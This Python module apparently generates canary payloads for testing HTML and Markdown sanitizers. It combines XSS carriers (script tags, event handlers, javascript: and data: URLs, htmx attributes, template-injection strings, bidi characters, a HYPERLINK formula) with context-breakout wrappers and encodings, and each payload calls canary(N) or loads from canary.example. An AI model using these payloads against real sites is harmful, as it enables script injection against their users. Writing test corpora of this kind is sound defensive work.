"""Payloads made of two lists: what runs or loads something, and what leads out of the place where text stands.

Each has a number of its own, which it passes to `canary` or asks of a host that nobody has.
"""

import html
from collections.abc import Callable
from urllib.parse import quote

HOST = "canary.example"
CARRIERS = (
    "<script>canary(@)</script>",
    f'<script src="https://{HOST}/@.js"></script>',
    '<img src="/canary/@" onerror="canary(@)">',
    '<svg onload="canary(@)"><script>canary(@)</script></svg>',
    '<svg><a xlink:href="javascript:canary(@)"><text y="20">canary</text></a></svg>',
    '<math><mtext href="javascript:canary(@)"><img src="/canary/@" onerror="canary(@)"></mtext></math>',
    '<a href="javascript:canary(@)">canary</a>',
    '<a href="data:text/html,<script>opener.canary(@)</script>" target="_blank">canary</a>',
    '<iframe srcdoc="<script>parent.canary(@)</script>"></iframe>',
    f'<iframe src="https://{HOST}/@"></iframe><object data="https://{HOST}/@"></object>',
    f'<form action="https://{HOST}/@"><input autofocus onfocus="canary(@)"><button formaction="javascript:canary(@)">x',
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/@"><base href="https://{HOST}/@/">',
    f'<link rel="stylesheet" href="https://{HOST}/@.css"><style>body {{ background: url(https://{HOST}/@) }}</style>',
    f'<p style="background: url(https://{HOST}/@); position: fixed; inset: 0">canary</p>',
    '<details open ontoggle="canary(@)"><summary>canary</summary></details>',
    '<div hx-get="/canary/@" hx-trigger="load" hx-on:htmx:after:init="canary(@)">canary</div>',
    '<div data-hx-get="/canary/@" data-hx-trigger="load[canary(@)]" data-hx-vals="js:{a: canary(@)}">canary</div>',
    '<hx-partial hx-target="#main"><script>canary(@)</script></hx-partial>',
    "javascript:canary(@)//",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoTik8L3NjcmlwdD4= canary(@)",
    f"![canary](https://{HOST}/@.png)",
    "[canary](javascript:canary(@)) [canary]( <data:text/html,canary(@)> )",
    "{{ canary(@) }}{{ 7 | times: 7 }}{% include 'canary' %}{{ self.__class__ }}",
    "${canary(@)} %(canary)s {0.__class__} #{canary(@)} <%= canary(@) %>",
    "\u202ecanary(@)\u2066\u200b\u2060\ufeff\u00ad\U000e0041",
    "=HYPERLINK(canary(@))" + "W" * 2_000,
)
WAYS_OUT: tuple[Callable[[str], str], ...] = (
    lambda carrier: carrier,
    lambda carrier: f'">{carrier}',
    lambda carrier: f"'>{carrier}",
    lambda carrier: f'" autofocus onfocus="canary(@)" x="{carrier}',
    lambda carrier: f"' onmouseover='canary(@)' x='{carrier}",
    lambda carrier: f"-->{carrier}<!--",
    lambda carrier: f"]]>{carrier}<![CDATA[",
    lambda carrier: f"</title></textarea>{carrier}",
    lambda carrier: f"</option></select></datalist>{carrier}",
    lambda carrier: f"</script></style></template>{carrier}",
    lambda carrier: f"</td></tr></table></svg></math>{carrier}",
    lambda carrier: f"<{carrier}>",
    lambda carrier: f"**{carrier}** `{carrier}`",
    lambda carrier: f"> - | {carrier} |\n|---|\n<!-- {carrier}",
    lambda carrier: f"\\u003c{carrier}\\x3c\\",
    lambda carrier: f'"}}], "x": "{carrier}',
    lambda carrier: html.escape(carrier),
    lambda carrier: html.escape(html.escape(carrier)),
    lambda carrier: quote(carrier, safe="()"),
    lambda carrier: carrier.replace("script", "ScRiPt").replace("on", "ON").replace("<", "<\n"),
)
"""Out of nothing, attributes, comments, elements, Markdown, JSON; and encoded, for whatever decodes too much."""


def all_payloads() -> tuple[str, ...]:
    pairs = [(way_out, carrier) for way_out in WAYS_OUT for carrier in CARRIERS]
    return tuple(way_out(carrier).replace("@", str(number)) for number, (way_out, carrier) in enumerate(pairs))
